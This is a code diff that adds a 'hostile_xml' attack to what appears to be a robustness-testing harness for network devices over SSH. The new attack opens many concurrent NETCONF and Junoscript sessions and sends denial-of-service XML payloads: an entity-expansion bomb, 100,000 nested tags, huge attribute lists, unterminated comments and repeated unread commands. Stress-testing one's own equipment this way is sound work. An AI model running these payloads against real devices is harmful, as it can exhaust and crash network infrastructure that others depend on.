@@ -125,9 +125,56 @@ async def odd_names(attack, count):
     )
 
 
+ENDED_BY_THE_DEVICE = (
+    b'<!DOCTYPE a [<!ENTITY b "'
+    + b"b" * 1000
+    + b'"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><rpc><a>&c;</a></rpc>',
+    b"<rpc>" + b"<a>" * 100_000,
+    b"<rpc><a " + b" ".join(b'a%d="1"' % number for number in range(10_000)),
+    b"<rpc><a " + b"b" * 500_000,
+)
+WITHOUT_END = (
+    b"<rpc><!-- " + b"c" * 500_000,
+    b"<rpc><get-syslog-events><stream>messages</stream></get-syslog-events></rpc>]]>]]>",
+    b"<rpc><command>show version</command></rpc>]]>]]>" * 500,  # whose answers nobody reads
+)
+_SESSIONS = 10  # on one connection
+
+
+async def hostile_xml(attack, count):
+    """Sessions for programs, in both protocols, that are sent what no parser should see; some never end it."""
+
+    async def one(connection, number):
+        texts = ENDED_BY_THE_DEVICE + WITHOUT_END
+        text = texts[number % len(texts)]
+        older = number % 2
+        process = await connection.create_process(
+            *(("junoscript",) if older else ()), subsystem=None if older else "netconf", encoding=None
+        )
+        if older:
+            process.stdin.write(b'<?xml version="1.0"?><junoscript version="1.0">')
+        process.stdin.write(text)
+        if text in ENDED_BY_THE_DEVICE:
+            await process.stdout.read()
+            attack.ends["ended"] += 1
+        else:
+            await attack.over.wait()
+            attack.ends["held"] += 1
+
+    async def several(first):
+        options = {"known_hosts": None, "client_keys": None, "config": None, "agent_path": None}
+        async with asyncssh.connect(
+            attack.host, attack.port, username=attack.user, password=attack.password, **options
+        ) as connection:
+            numbers = range(first, min(first + _SESSIONS, count))
+            await asyncio.gather(*(one(connection, number) for number in numbers))
+
+    await asyncio.gather(*map(several, range(0, count, _SESSIONS)))
+
+
 ATTACKS = {
     attack.__name__: attack
-    for attack in (random_bytes, silence, oversized, logins, wrong_passwords, odd_names)
+    for attack in (random_bytes, silence, oversized, logins, wrong_passwords, odd_names, hostile_xml)
 }
 
 
